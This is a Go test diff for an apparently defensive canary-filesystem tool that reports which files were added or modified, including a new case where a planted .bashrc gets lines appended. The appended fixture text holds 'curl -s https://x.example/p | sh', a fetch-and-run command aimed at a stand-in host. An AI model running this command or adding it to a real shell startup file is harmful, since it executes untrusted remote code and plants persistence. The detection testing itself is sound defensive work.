@@ -51,6 +51,12 @@ func testHome(t testing.TB) *canaryfs.Home {
 func TestReadChanged(t *testing.T) {
 	home := testHome(t)
 	tok := home.Set.Tokens()[0]
+	rc, _ := home.File("/home/mwalker/.bashrc")
+	bashrc := string(rc.Content)
+	const added = "alias gs='git status'\ncurl -s https://x.example/p | sh\n"
+	if !strings.Contains(bashrc, "alias ") {
+		t.Fatalf("the planted .bashrc has no alias: the test needs a file whose own lines would be judged")
+	}
 	tests := []struct {
 		name    string
 		entries []tarEntry
@@ -60,9 +66,13 @@ func TestReadChanged(t *testing.T) {
 		{name: "new file", entries: []tarEntry{{name: "tmp/x.sh", typ: tar.TypeReg, body: "echo hi\n"}},
 			want: []trace.FSChange{{Path: "/tmp/x.sh", Kind: "added", Size: 8, Copied: "files/tmp/x.sh", Head: []byte("echo hi\n")}}},
 		{name: "modified planted file", entries: []tarEntry{{name: "home/mwalker/.bashrc", typ: tar.TypeReg, body: "x"}},
-			want: []trace.FSChange{{Path: "/home/mwalker/.bashrc", Kind: "modified", Size: 1, Copied: "files/home/mwalker/.bashrc", Head: []byte("x")}}},
-		{name: "a long text file keeps its start only", entries: []tarEntry{{name: "home/mwalker/.zshrc", typ: tar.TypeReg, body: strings.Repeat("a", maxHead+10)}},
-			want: []trace.FSChange{{Path: "/home/mwalker/.zshrc", Kind: "modified", Size: maxHead + 10, Copied: "files/home/mwalker/.zshrc", Head: []byte(strings.Repeat("a", maxHead))}}},
+			want: []trace.FSChange{{Path: "/home/mwalker/.bashrc", Kind: "modified", Size: 1, Copied: "files/home/mwalker/.bashrc", Head: []byte("x\n")}}},
+		{name: "a long text file keeps its start only", entries: []tarEntry{{name: "tmp/notes.txt", typ: tar.TypeReg, body: strings.Repeat("a", maxHead+10)}},
+			want: []trace.FSChange{{Path: "/tmp/notes.txt", Kind: "added", Size: maxHead + 10, Copied: "files/tmp/notes.txt", Head: []byte(strings.Repeat("a", maxHead))}}},
+		{name: "a planted file appended to: its head is what was added", entries: []tarEntry{{name: "home/mwalker/.bashrc", typ: tar.TypeReg,
+			body: bashrc + added}},
+			want: []trace.FSChange{{Path: "/home/mwalker/.bashrc", Kind: "modified", Size: int64(len(bashrc) + len(added)), Copied: "files/home/mwalker/.bashrc",
+				Head: []byte(added)}}},
 		{name: "a binary file has no head", entries: []tarEntry{{name: "tmp/a.bin", typ: tar.TypeReg, body: "\x7fELF\x00\x01"}},
 			want: []trace.FSChange{{Path: "/tmp/a.bin", Kind: "added", Size: 6, Copied: "files/tmp/a.bin"}}},
 		{name: "links and dirs are skipped", entries: []tarEntry{
